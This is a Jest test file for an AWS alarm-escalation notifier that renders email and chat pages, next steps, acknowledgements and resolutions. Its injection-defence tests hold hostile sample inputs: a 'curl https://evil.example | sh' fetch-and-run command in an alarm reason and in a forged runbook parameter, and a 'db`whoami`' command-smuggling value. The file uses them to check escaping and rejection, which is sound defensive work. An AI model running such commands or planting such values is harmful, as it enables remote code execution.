// The pure renderers: what an escalation, an escalation to the next tier and a resolution say, as email and as chat.
import type { SentNotification } from '../../../shared/escalation/incident';
import { buildMessageView, changeLines, formatTime, type MessageInput } from '../../../shared/escalation/message-view';
import { renderChatNotification } from '../../../shared/escalation/render-chat';
import { emailSubject, renderEmail } from '../../../shared/escalation/render-email';
import { planDatabaseScaleUp } from '../../../shared/playbooks/cpu-utilization-plan';
import { ACCOUNT, ALARM_ARN, ALARM_NAME, approvalIncident, capReachedIncident, failureIncident, guardrailIncident, policy, QUEUE_ARN, runtime } from './fixtures';
import { metricRead, rowAlarm } from '../../support/corroborating-readings';

/** Production's CPU alarm, and five minutes over it in CloudWatch (decision 217). */
const CPU_ALARM = rowAlarm('cpu-utilization');

const now = new Date('2026-11-25T14:00:06.000Z');
const production = policy('production');
const [l1, l2, l3] = production.tiers;
const rows = runtime().config.troubleshooting;
const sentL1: SentNotification = { kind: 'notify', level: 1, tierName: 'DevOps Team (L1)', status: 'SENT', sentAt: '2026-11-25T14:00:06.000Z', channels: ['chat', 'email'], messageIds: ['m1', 'm2'] };
const sentL2: SentNotification = { ...sentL1, level: 2, tierName: 'Cloud Infrastructure Team (L2)', sentAt: '2026-11-25T14:15:07.000Z' };

function input(overrides: Partial<MessageInput>): MessageInput {
  if (!l1 || !l2) throw new Error('production has L1 and L2');
  return {
    kind: 'opened',
    incident: capReachedIncident(),
    tier: l1,
    sent: [],
    policy: production,
    rows,
    now,
    nextEscalation: { tier: l2, at: new Date(now.getTime() + 15 * 60_000) },
    ...overrides,
  };
}

describe('renderEmail', () => {
  it('says what fired, why a person is needed, the next step and who is next, for the first tier', () => {
    const { subject, text } = renderEmail(buildMessageView(input({})));
    // The cause does not fit after this alarm name: the name is kept whole, the cause is the body's second line.
    expect(subject).toBe('[ESCALATION L1][production] NotificationService Queue Depth > 1000 (notification-service-queue)');
    expect(renderEmail(buildMessageView(input({ incident: capReachedIncident({ alarmName: 'NS Error Rate > 1%' }) }))).subject).toBe(
      '[ESCALATION L1][production] NS Error Rate > 1%: a cap was reached',
    );
    expect(text).toContain(`Alarm:       ${ALARM_NAME}`);
    expect(text).toContain('State:       ALARM since 2026-11-25 14:00 UTC');
    expect(text).toContain('Reason:      Threshold Crossed: 1 out of the last 1 datapoints [1523.0');
    expect(text).toContain('Account:     123456789012');
    expect(text).toContain('Region:      us-east-1');
    expect(text).toContain('Environment: production');
    expect(text).toContain(`Resource:    notification-service-queue (${QUEUE_ARN})`);
    expect(text).toContain('a cap was reached (cap-reached)');
    expect(text).toContain('scale-consumers did not act: consumers of notification-service-queue are at the environment cap (MaximumConcurrency 400)');
    // At the cap the row's runbook would refuse the same way: the step names the setting, offers no document (review 10a, 3).
    expect(text).toContain("NEXT STEP: Find why the consumers cannot keep up; raising their cap is a configuration change\n  First look at the consumer function's Errors, Throttles");
    expect(text).toContain('The cap is environments.production.scaleConsumers.maxConcurrency in the runbook configuration');
    expect(text).toContain('Re-running NotificationService-ScaleConsumers will not help: it invokes the same automation, which stops at the same cap.');
    expect(text).not.toContain('--document-name NotificationService-ScaleConsumers');
    expect(text).toContain('runbook ack inc-3f2a9c1b7d44');
    expect(text).toContain('#IncidentId=inc-3f2a9c1b7d44');
    expect(text).toContain('- DevOps Team (L1) at 2026-11-25 14:00 UTC via chat, email');
    expect(text).toContain('Cloud Infrastructure Team (L2) at 2026-11-25 14:15 UTC (in 15 min), unless acknowledged or the alarm clears.');
  });

  it('after a failure offers no document run: the cause comes first; the change is made by hand or by the row\'s document, decided afresh (decisions 167, 379)', () => {
    const { text } = renderEmail(buildMessageView(input({ incident: failureIncident() })));
    const step = text.slice(text.indexOf('NEXT STEP')).split('\n\n')[0];
    expect(step).toBe(
      [
        'NEXT STEP: Fix the error, then make the change by hand',
        '  The remediation failed with the error above: fix what it names first (a missing permission, a resource that is gone, a throttled API).',
        `  Then make the change by hand, as the automation planned it (\`runbook plan --alarm '${ALARM_NAME}' -e production --region us-east-1\` shows what it would change now, and changes nothing): the automation recorded this alarm state change as handled and will not act on its events again.`,
        "  NotificationService-ScaleConsumers invokes the same automation, which decides a document run afresh on the alarm's current state (decision 379): run it once the cause is fixed, and the same guardrails apply.",
      ].join('\n'),
    );
    expect(text).not.toContain('--document-name NotificationService-ScaleConsumers');
  });

  describe('names the account and region to run each document in (docs/decisions.md 86)', () => {
    // A production resize behind approval offers the document the decision named (a failure no longer offers a document,
    // decision 167): where to run it is what these tests check.
    const workload = approvalIncident({ account: '222222222222', alarmArn: approvalIncident().alarmArn.replace(ACCOUNT, '222222222222') });
    const section = (text: string, title: string): string => text.slice(text.indexOf(title)).split('\n\n')[0] ?? '';

    it('in cross-account mode: the service document in the workload account, the acknowledgement in the operations account', () => {
      const { text } = renderEmail(buildMessageView(input({ incident: workload, operationsAccount: '111111111111' })));
      expect(section(text, 'NEXT STEP')).toBe(
        [
          'NEXT STEP: Run NotificationService-ScaleUpDatabase',
          '  In production this change is made by a person: NotificationService-ScaleUpDatabase makes the planned change (before -> after above) after a configured approver approves.',
          '  Run NotificationService-ScaleUpDatabase in the workload account 222222222222, us-east-1, where the document is registered:',
          `  aws ssm start-automation-execution --region us-east-1 --document-name NotificationService-ScaleUpDatabase --parameters '{"DBInstanceIdentifier":["notification-service-db"],"TargetInstanceClass":["db.r6g.2xlarge"]}'`,
          '  Console: https://us-east-1.console.aws.amazon.com/systems-manager/automation/execute/NotificationService-ScaleUpDatabase?region=us-east-1#DBInstanceIdentifier=notification-service-db&TargetInstanceClass=db.r6g.2xlarge',
        ].join('\n'),
      );
      expect(section(text, 'ACKNOWLEDGE')).toBe(
        [
          'ACKNOWLEDGE (stops the escalation)',
          '  Run in the operations account 111111111111, us-east-1, where the incident state is kept:',
          '  runbook ack inc-3f2a9c1b7d44 --region us-east-1',
          '  or: aws ssm start-automation-execution --region us-east-1 --document-name NotificationService-AcknowledgeIncident --parameters \'{"IncidentId":["inc-3f2a9c1b7d44"]}\'',
          '  Console: https://us-east-1.console.aws.amazon.com/systems-manager/automation/execute/NotificationService-AcknowledgeIncident?region=us-east-1#IncidentId=inc-3f2a9c1b7d44',
        ].join('\n'),
      );
      const chat = renderChatNotification(buildMessageView(input({ incident: workload, operationsAccount: '111111111111' })));
      expect(chat.content.nextSteps?.[0]).toMatch(/^\*Next step:\* Run NotificationService-ScaleUpDatabase\. In production this change is made by a person/);
      expect(chat.content.nextSteps?.[1]).toMatch(/`, in the workload account 222222222222, us-east-1, where the document is registered$/);
      expect(chat.content.nextSteps?.[2]).toMatch(/NotificationService-AcknowledgeIncident>, in the operations account 111111111111, us-east-1, where the incident state is kept$/);
    });

    it('in one account: that account for both, in the incident\'s region', () => {
      const dr = approvalIncident({ region: 'us-west-2', alarmArn: approvalIncident().alarmArn.replace('us-east-1', 'us-west-2') });
      for (const operationsAccount of [undefined, '123456789012']) {
        const { text } = renderEmail(buildMessageView(input({ incident: dr, ...(operationsAccount ? { operationsAccount } : {}) })));
        expect(section(text, 'NEXT STEP').split('\n')[2]).toBe('  Run NotificationService-ScaleUpDatabase in account 123456789012, us-west-2:');
        expect(section(text, 'ACKNOWLEDGE').split('\n')[1]).toBe('  Run in account 123456789012, us-west-2:');
      }
    });
  });

  it('shows a blocked change as before -> after, with the guardrail and the blast radius', () => {
    const text = renderEmail(buildMessageView(input({ incident: guardrailIncident() }))).text;
    expect(text).toContain('blocked by a guardrail (guardrail)');
    expect(text).toContain('Guardrail: hourly-budget');
    expect(text).toContain('scale-consumers planned but did not change');
    expect(text).toContain('    maximumConcurrency.a1b2c3d4-esm: 100 -> 150');
    expect(text).not.toContain('queueDepth: 4210 -> 4210');
    expect(text).toContain('Blast radius: mapping a1b2c3d4-esm');
  });

  it('offers the runbook the playbook named, parameters filled in, for a production change that needs approval', () => {
    const base = capReachedIncident();
    const incident = capReachedIncident({
      cause: 'approval-required',
      reason: 'scale up notification-service-db db.r6g.xlarge -> db.r6g.2xlarge needs approval in production',
      decision: {
        ...base.decision!,
        playbook: 'scale-up-database',
        cause: 'approval-required',
        reason: 'scale up notification-service-db db.r6g.xlarge -> db.r6g.2xlarge needs approval in production',
        runbook: { documentName: 'NotificationService-ScaleUpDatabase', parameters: { DBInstanceIdentifier: ['notification-service-db'], TargetInstanceClass: ['db.r6g.2xlarge'] } },
      },
    });
    const { text } = renderEmail(buildMessageView(input({ incident })));
    expect(text).toContain(
      `aws ssm start-automation-execution --region us-east-1 --document-name NotificationService-ScaleUpDatabase --parameters '{"DBInstanceIdentifier":["notification-service-db"],"TargetInstanceClass":["db.r6g.2xlarge"]}'`,
    );
    expect(text).toContain('/automation/execute/NotificationService-ScaleUpDatabase?region=us-east-1#DBInstanceIdentifier=notification-service-db&TargetInstanceClass=db.r6g.2xlarge');
  });

  it('tells the next tier why it is hearing about it and who already was', () => {
    if (!l2 || !l3) throw new Error('tiers');
    const { text } = renderEmail(
      buildMessageView(
        input({
          kind: 'escalated',
          incident: capReachedIncident({ level: 1 }),
          tier: l2,
          sent: [sentL1],
          now: new Date('2026-11-25T14:15:07.000Z'),
          nextEscalation: { tier: l3, at: new Date('2026-11-25T14:45:07.000Z') },
          escalatedBecause: 'DevOps Team (L1) did not acknowledge within 15 min and the alarm is still in ALARM',
        }),
      ),
    );
    expect(text.split('\n')[0]).toBe('ESCALATED to Cloud Infrastructure Team (L2): incident inc-3f2a9c1b7d44, production');
    expect(text).toContain('Escalated to you because DevOps Team (L1) did not acknowledge within 15 min and the alarm is still in ALARM.');
    expect(text).toContain('- DevOps Team (L1) at 2026-11-25 14:00 UTC via chat, email\n  - Cloud Infrastructure Team (L2) at 2026-11-25 14:15 UTC via chat, email');
    expect(text).toContain('AWS Support (Enterprise) (L3) at 2026-11-25 14:45 UTC (in 30 min)');
  });

  it('says there is no next tier at the end of the path', () => {
    const last = production.tiers.at(-1);
    if (!last) throw new Error('tiers');
    const { nextEscalation: _none, ...rest } = input({ tier: last, kind: 'escalated' });
    expect(renderEmail(buildMessageView(rest)).text).toContain('Service Owner (L4) is the last tier of the production escalation path');
  });

  it('writes a resolution with no next step and no next tier', () => {
    const incident = capReachedIncident({ level: 2, status: 'RESOLVED', resolvedAt: '2026-11-25T14:20:00.000Z', resolution: `alarm "${ALARM_NAME}" is OK: Threshold Crossed: no datapoints were breaching` });
    if (!l2) throw new Error('tiers');
    const { subject, text } = renderEmail(buildMessageView(input({ kind: 'resolved', incident, tier: l2, sent: [sentL1, sentL2] })));
    expect(subject).toBe(`[RESOLVED][production] ${ALARM_NAME}`);
    expect(text).toContain('You (Cloud Infrastructure Team (L2)) were notified about it');
    expect(text).toContain('is OK: Threshold Crossed: no datapoints were breaching (2026-11-25 14:20 UTC)');
    expect(text).not.toContain('NEXT STEP');
    expect(text).not.toContain('ACKNOWLEDGE');
    expect(text).toContain('resolved: no further escalation');
  });

  it.each([
    // Cut at 96 characters, "..." added: 99 exactly.
    ['a long alarm name', `[ESCALATION L1][production] ${'x'.repeat(200)}`, `[ESCALATION L1][production] ${'x'.repeat(68)}...`],
    ['an em dash and an emoji', '[ESCALATION L1][production] queue — backed up 🚨', '[ESCALATION L1][production] queue - backed up'],
    ['a line break in an alarm name', '[ESCALATION L1][production] first line\nsecond line', '[ESCALATION L1][production] first line second line'],
  ])('keeps the SNS subject under 100 printable ASCII characters on one line: %s', (_case, raw, expected) => {
    const subject = emailSubject(raw);
    expect(subject).toBe(expected);
    expect(subject.length).toBe(expected.length);
    expect(subject).toMatch(/^[\x20-\x7E]+$/);
  });

  it('cuts a subject of 100 characters to 99 and leaves one of 99 whole', () => {
    const of99 = `[ESCALATION L1][production] ${'y'.repeat(99 - 28)}`;
    expect(of99).toHaveLength(99);
    expect(emailSubject(of99)).toBe(of99);
    expect(emailSubject(`${of99}z`)).toBe(`${of99.slice(0, 96)}...`);
    expect(emailSubject(`${of99}z`)).toHaveLength(99);
  });
});

describe('renderChatNotification', () => {
  it('is an AWS Chatbot custom notification: version 1.0, source custom, client-markdown, threaded by incident', () => {
    const chat = renderChatNotification(buildMessageView(input({})));
    expect(chat).toMatchObject({
      version: '1.0',
      source: 'custom',
      content: {
        textType: 'client-markdown',
        // Slack's three escapes apply to our own text too: "Queue Depth > 1000" is shown as ">" by the client.
        title: `:rotating_light: [production] Escalation to DevOps Team (L1): ${ALARM_NAME.replace('>', '&gt;')}`,
        keywords: ['production', 'L1', 'cap-reached', 'scale-consumers'],
      },
      metadata: {
        threadId: 'inc-3f2a9c1b7d44',
        eventType: 'NotificationServiceEscalation',
        relatedResources: [ALARM_ARN, QUEUE_ARN],
        additionalContext: { incidentId: 'inc-3f2a9c1b7d44', tier: 'L1', environment: 'production', cause: 'cap-reached' },
      },
    });
    expect(chat.content.description).toContain('*Why a person is needed:* a cap was reached');
    expect(chat.content.description).toContain('*Next tier:* Cloud Infrastructure Team (L2) at 2026-11-25 14:15 UTC (in 15 min) unless acknowledged');
    // Cap reached: what to do, and no document link (the row's runbook would refuse the same way).
    expect(chat.content.nextSteps).toEqual([
      expect.stringMatching(/^\*Next step:\* Find why the consumers cannot keep up; raising their cap is a configuration change\. .*scaleConsumers\.maxConcurrency/),
      expect.stringMatching(/^Acknowledge: `runbook ack inc-3f2a9c1b7d44 --region us-east-1` or <https:.*NotificationService-AcknowledgeIncident>, in account 123456789012, us-east-1$/),
    ]);
    // Every value of additionalContext is a string, as the schema requires.
    expect(Object.values(chat.metadata?.additionalContext ?? {}).every((v) => typeof v === 'string')).toBe(true);
  });

  it('keeps a long description within what chat platforms show, and backticks in reasons from breaking the markdown', () => {
    const findings = Array.from({ length: 40 }, (_, i) => `sg-0a1b2c3d4e5f${i} allows no ingress on 5432 from sg-lambda \`(rule ${i})\` ${'detail '.repeat(20)}`);
    const incident = capReachedIncident({ decision: { ...capReachedIncident().decision!, findings, reason: 'reason with `code`' } });
    const chat = renderChatNotification(buildMessageView(input({ incident })));
    // Within what chat platforms show (2800), exactly: the findings are cut, not the description.
    expect(chat.content.description.length).toBeLessThanOrEqual(2800);
    expect(chat.content.description.length).toBe(1835);
    expect(chat.content.description).toContain("reason with 'code'");
  });

  it('resolves in the same thread without next steps', () => {
    const incident = capReachedIncident({ level: 1, status: 'RESOLVED', resolvedAt: '2026-11-25T14:20:00.000Z', resolution: 'alarm is OK' });
    if (!l1) throw new Error('tiers');
    const chat = renderChatNotification(buildMessageView(input({ kind: 'resolved', incident, tier: l1, sent: [sentL1] })));
    expect(chat.content.title).toBe(`:white_check_mark: [production] Resolved: ${ALARM_NAME.replace('>', '&gt;')}`);
    expect(chat.content.nextSteps).toBeUndefined();
    expect(chat.metadata?.threadId).toBe('inc-3f2a9c1b7d44');
    expect(chat.content.keywords).toContain('resolved');
  });
});

describe('changeLines and formatTime', () => {
  it.each([
    ['a scale-up', { maximumConcurrency: { esm: 50 } }, { maximumConcurrency: { esm: 100 } }, ['maximumConcurrency.esm: 50 -> 100']],
    ['memory raised outside IaC', { memoryMb: 512 }, { memoryMb: 768 }, ['memoryMb: 512 -> 768']],
    ['reserved concurrency removed', { reservedConcurrency: { fn: 150 } }, { reservedConcurrency: { fn: null } }, ['reservedConcurrency.fn: 150 -> none']],
    ['an observation with nothing planned', { connections: 412, maxConnections: 450 }, undefined, ['connections: 412', 'maxConnections: 450']],
  ])('lists %s as field: before -> after', (_case, before, after, expected) => {
    expect(changeLines(before, after)).toEqual(expected);
  });

  // Review 11a finding 12: a field the plan leaves out of `after` is unchanged, never "-> none".
  const rdsPlan = planDatabaseScaleUp({
    observation: { dbInstanceIdentifier: 'notification-service-db', instanceClass: 'db.r6g.2xlarge', status: 'available', multiAz: true, engine: 'postgres', readReplicas: [] },
    policy: { ladder: ['db.r6g.xlarge', 'db.r6g.2xlarge', 'db.r6g.4xlarge'] },
    environment: 'production',
    alarm: { alarmName: CPU_ALARM.alarmName, configured: CPU_ALARM },
    cpuMetric: metricRead([80, 80, 80, 80, 80]),
  });
  if (rdsPlan.kind !== 'change') throw new Error('the production RDS plan is a change');
  it.each<[string, Record<string, unknown>, Record<string, unknown>, string[]]>([
    ['the production RDS resize (planDatabaseScaleUp)', rdsPlan.before, rdsPlan.after, ['instanceClass: db.r6g.2xlarge -> db.r6g.4xlarge']],
    [
      'a Queue Backup restore that unreserves one consumer and keeps the queue depth',
      { queueDepth: 4200, maximumConcurrency: { esm: 100 }, reservedConcurrency: { fn: 150, other: 20 } },
      { queueDepth: 4200, maximumConcurrency: { esm: 50 }, reservedConcurrency: { fn: null, other: 20 } },
      ['maximumConcurrency.esm: 100 -> 50', 'reservedConcurrency.fn: 150 -> none'],
    ],
  ])('lists only the fields %s changes, none of its unchanged ones as "-> none"', (_case, before, after, expected) => {
    expect(changeLines(before, after)).toEqual(expected);
  });

  it.each([
    ['2026-11-25T14:00:03.120+0000', '2026-11-25 14:00 UTC'],
    ['2026-11-25T14:31:07.000Z', '2026-11-25 14:31 UTC'],
    ['2026-11-25_14.31.07', '2026-11-25 14:31 UTC'],
    ['not a time', 'not a time'],
  ])('formats %s as %s', (value, expected) => {
    expect(formatTime(value)).toBe(expected);
  });
});

describe('text from outside renders inert (issue 17: message injection)', () => {
  const craftedReason =
    'Threshold Crossed <!channel> <https://evil.example/run|Run this>\n\nNEXT STEP: Run NotificationService-Evil\n  curl https://evil.example | sh';
  const leakyFinding = 'top error (12x): connect postgres://app:S3cr3t@db:5432/notify failed; Authorization: Bearer abcdef1234567890 for ops@example.com';
  const incident = capReachedIncident({
    alarmReason: craftedReason,
    decision: { ...capReachedIncident().decision!, findings: [leakyFinding] },
  });

  it('keeps a crafted alarm reason on its own line in the email, and masks what a log line leaked', () => {
    const { text } = renderEmail(buildMessageView(input({ incident })));
    const reasonLine = text.split('\n').find((line) => line.startsWith('  Reason:'));
    expect(reasonLine).toBe(
      '  Reason:      Threshold Crossed <!channel> <https://evil.example/run|Run this> NEXT STEP: Run NotificationService-Evil curl https://evil.example | sh',
    );
    // The only section headed NEXT STEP is the automation's own.
    expect(text.split('\n').filter((line) => line.startsWith('NEXT STEP'))).toEqual(['NEXT STEP: Find why the consumers cannot keep up; raising their cap is a configuration change']);
    expect(text).toContain('- top error (12x): connect postgres://app:****@db:5432/notify failed; Authorization: Bearer **** for ****@example.com');
    expect(text).not.toContain('S3cr3t');
    expect(text).not.toContain('abcdef1234567890');
  });

  it('escapes the same reason for chat: no link, no mention, no new line of markup', () => {
    const chat = renderChatNotification(buildMessageView(input({ incident })));
    const reasonLine = chat.content.description.split('\n').find((line) => line.startsWith('*Reason:*'));
    expect(reasonLine).toBe(
      '*Reason:* Threshold Crossed &lt;!channel&gt; &lt;https://evil.example/run|Run this&gt; NEXT STEP: Run NotificationService-Evil curl https://evil.example | sh',
    );
    expect(chat.content.description).not.toContain('<!channel>');
    expect(chat.content.description).not.toContain('<https://evil');
    expect(chat.content.description).not.toContain('S3cr3t');
  });

  it('never offers a document that is not one of the project\'s runbooks as the next step', () => {
    // A resize behind approval offers the document the decision named: a forged name or value is never offered.
    expect(buildMessageView(input({ incident: approvalIncident() })).nextStep?.run?.documentName).toBe('NotificationService-ScaleUpDatabase');
    const forged = approvalIncident({
      decision: { ...approvalIncident().decision!, runbook: { documentName: 'Evil-RunShellScript', parameters: { commands: ['curl https://evil.example | sh'] } } },
    });
    const view = buildMessageView(input({ incident: forged }));
    expect(view.nextStep?.run).toBeUndefined();
    expect(renderEmail(view).text).not.toContain('Evil-RunShellScript');
    const badValue = approvalIncident({
      decision: { ...approvalIncident().decision!, runbook: { documentName: 'NotificationService-ScaleUpDatabase', parameters: { DBInstanceIdentifier: ['db`whoami`'], TargetInstanceClass: ['db.r6g.2xlarge'] } } },
    });
    expect(buildMessageView(input({ incident: badValue })).nextStep?.run).toBeUndefined();
  });
});

describe('who acknowledged, in the resolution message (decision 174)', () => {
  const ARN = 'arn:aws:sts::123456789012:assumed-role/OnCall/alice';
  /** The session name is the assumer's choice, and says so (review 12, R12-8). */
  const SESSION = ' (role OnCall verified; its session name "alice" is chosen by whoever assumed the role)';
  const resolved = (acknowledged: { acknowledgedBy: string; acknowledgedNote?: string }) =>
    buildMessageView(
      input({
        kind: 'resolved',
        incident: capReachedIncident({ status: 'RESOLVED', ...acknowledged, acknowledgedAt: '2026-11-25T14:05:00.000Z', resolvedAt: '2026-11-25T14:20:00.000Z', resolution: 'alarm OK' }),
        sent: [sentL1],
        now: new Date('2026-11-25T14:20:00.000Z'),
        nextEscalation: undefined,
      }),
    );

  it.each<[string, { acknowledgedBy: string; acknowledgedNote?: string }, string, string]>([
    ['the principal STS named', { acknowledgedBy: ARN }, `by ${ARN}${SESSION} at 2026-11-25 14:05 UTC`, `*Acknowledged* by ${ARN}${SESSION} at 2026-11-25 14:05 UTC`],
    [
      'the principal, and the note labelled as its own claim (escaped in chat)',
      { acknowledgedBy: ARN, acknowledgedNote: 'bob <@U123>' },
      `by ${ARN}${SESSION} (self-declared: "bob <@U123>") at 2026-11-25 14:05 UTC`,
      `*Acknowledged* by ${ARN}${SESSION} (self-declared: "bob &lt;@U123&gt;") at 2026-11-25 14:05 UTC`,
    ],
    [
      'a typed name from before, marked unverified',
      { acknowledgedBy: 'alice@example.com' },
      'by "alice@example.com" (unverified: not a principal ARN) at 2026-11-25 14:05 UTC',
      '*Acknowledged* by "alice@example.com" (unverified: not a principal ARN) at 2026-11-25 14:05 UTC',
    ],
  ])('shows %s', (_case, acknowledged, emailLine, chatLine) => {
    const view = resolved(acknowledged);
    expect(renderEmail(view).text).toContain(`ACKNOWLEDGED\n  ${emailLine}\n`);
    expect(renderChatNotification(view).content.description).toContain(`${chatLine}\n`);
  });
});

// Review 14 R14-15: a real backlog at the cap that re-opened a not-corroborated incident was paged with the not-corroborated
// cause, reason and next step (CloudTrail), the cap only under LATER UPDATES; L1's re-open message named no cause at all.
describe('an incident whose cause a later escalation superseded (R14-15)', () => {
  const NC_REASON = `alarm "${ALARM_NAME}" not corroborated: queue depth 0 is not > 1000 (the alarm's threshold, from the configuration); nothing changed`;
  const REFIRE = '2026-11-25T14:20:03.000+0000';
  const ncDecision = { key: 'nc', playbook: 'scale-consumers', outcome: 'escalate', reason: NC_REASON, decidedAt: '2026-11-25T14:00:04.512Z', dryRun: false, cause: 'not-corroborated' };
  const superseded = capReachedIncident({
    alarmTime: REFIRE,
    firstAlarmTime: '2026-11-25T14:00:03.120+0000',
    reopens: 1,
    level: 1,
    earlierCauses: [{ cause: 'not-corroborated', reason: NC_REASON, since: '2026-11-25T14:00:03.120+0000', until: REFIRE, decision: ncDecision }],
  });
  const reopenNow = new Date('2026-11-25T14:20:05.000Z');

  it("L1's re-open message names the new cause, why, and its next step; the first message's cause is named as what it was", () => {
    const view = buildMessageView(input({ kind: 'reopened', incident: superseded, now: reopenNow }));
    const { text } = renderEmail(view);
    expect(text).toContain('The cause is now: a cap was reached (cap-reached); it was the alarm is not borne out by what the automation read: nothing was changed (not-corroborated) until this re-fire.');
    expect(text).toContain('WHY A PERSON IS NEEDED\n  consumers of notification-service-queue are at the environment cap (MaximumConcurrency 400)');
    expect(text).toContain('NEXT STEP: Find why the consumers cannot keep up; raising their cap is a configuration change');
    expect(text).not.toContain('CloudTrail');
    expect(text).toContain('(the cause changed: this message has its details)');
    const chat = renderChatNotification(view);
    expect(chat.content.description).toContain('*The cause is now:* a cap was reached (cap-reached): consumers of notification-service-queue are at the environment cap');
    expect(chat.content.nextSteps?.[0]).toContain('*Next step:* Find why the consumers cannot keep up');
  });

  it('a re-open that kept the cause says so in one line and leaves the details to the first message', () => {
    const kept = { ...superseded, earlierCauses: [{ ...superseded.earlierCauses![0]!, until: '2026-11-25T14:10:00.000+0000' }] };
    const { text } = renderEmail(buildMessageView(input({ kind: 'reopened', incident: kept, now: reopenNow })));
    expect(text).toContain('Cause: a cap was reached (cap-reached), as in the first message.');
    expect(text).not.toContain('NEXT STEP');
    expect(text).toContain('(the first message has the details)');
  });

  it("L2's page presents the cap as the cause and its next step; the not-corroborated cause only as an earlier cause", () => {
    const view = buildMessageView(input({ kind: 'escalated', incident: superseded, tier: l2, sent: [sentL1], now: reopenNow, escalatedBecause: 'DevOps Team (L1) did not acknowledge within 15 min' }));
    const { subject, text } = renderEmail(view);
    expect(subject).toBe('[ESCALATED L2][production] NotificationService Queue Depth > 1000 (notification-service-queue)');
    expect(text).toContain('WHY A PERSON IS NEEDED\n  a cap was reached (cap-reached)');
    expect(text).toContain('scale-consumers did not act: consumers of notification-service-queue are at the environment cap');
    expect(text).toContain('NEXT STEP: Find why the consumers cannot keep up');
    expect(text).not.toContain('Find out why the alarm fired');
    expect(text).toContain(`EARLIER CAUSES (superseded by a later escalation of the alarm)\n  - 2026-11-25 14:00 UTC to 2026-11-25 14:20 UTC: the alarm is not borne out by what the automation read: nothing was changed (not-corroborated): ${NC_REASON}`);
    expect(renderChatNotification(view).content.description).toContain('*Earlier cause:* 2026-11-25 14:00 UTC to 2026-11-25 14:20 UTC: the alarm is not borne out');
  });

  // Decision 272: a join that changes the cause tells each tier already paged, which believes its page's cause.
  it("the cause-changed message tells a tier paged with not-corroborated that its page's cause is superseded, what it is now, why, and what to do", () => {
    const joined = { ...superseded, reopens: undefined, causeChange: { count: 1, at: REFIRE } };
    const view = buildMessageView(input({ kind: 'cause-changed', incident: joined, tier: l1, sent: [sentL1], now: reopenNow }));
    const { subject, text } = renderEmail(view);
    // The cause does not fit in SNS's 99 characters beside this alarm's name: the name is kept.
    expect(subject).toBe('[CAUSE CHANGED L1][production] NotificationService Queue Depth > 1000 (notification-service-queue)');
    expect(text).toContain(
      'The cause of the page you (DevOps Team (L1)) received is superseded: it was the alarm is not borne out by what the automation read: nothing was changed (not-corroborated); a later escalation of the alarm at 2026-11-25 14:20 UTC changed it.',
    );
    expect(text).toContain('The cause is now: a cap was reached (cap-reached).');
    expect(text).toContain('WHY A PERSON IS NEEDED\n  consumers of notification-service-queue are at the environment cap (MaximumConcurrency 400)');
    expect(text).toContain('NEXT STEP: Find why the consumers cannot keep up; raising their cap is a configuration change');
    expect(text).toContain('ACKNOWLEDGE (stops the escalation)');
    expect(text).toContain('NEXT TIER\n  Cloud Infrastructure Team (L2) at 2026-11-25 14:15 UTC');
    expect(text).not.toContain('CloudTrail');
    const chat = renderChatNotification(view);
    expect(chat.id).toBe(`${joined.incidentId}-cause-changed-l1-n1`);
    expect(chat.content.title).toContain('Cause changed: NotificationService Queue Depth &gt; 1000 (notification-service-queue): a cap was reached');
    expect(chat.content.description).toContain('*The cause of your page is superseded:* it was the alarm is not borne out by what the automation read: nothing was changed (not-corroborated)');
    expect(chat.content.description).toContain('*The cause is now:* a cap was reached (cap-reached): consumers of notification-service-queue are at the environment cap');
    expect(chat.content.nextSteps?.[0]).toContain('*Next step:* Find why the consumers cannot keep up');
    // Acknowledged: the owner is told who holds it, not asked to acknowledge again.
    const owned = buildMessageView(input({ kind: 'cause-changed', incident: { ...joined, status: 'ACKNOWLEDGED', acknowledgedBy: 'arn:aws:iam::123456789012:user/oncall', acknowledgedAt: '2026-11-25T14:05:00.000Z' }, tier: l1, sent: [sentL1], now: reopenNow }));
    expect(renderEmail(owned).text).toContain('ACKNOWLEDGED\n  by ');
    expect(renderEmail(owned).text).not.toContain('ACKNOWLEDGE (stops the escalation)');
    expect(renderChatNotification(owned).content.nextSteps?.some((line) => line.startsWith('Acknowledge:'))).toBe(false);
  });
});
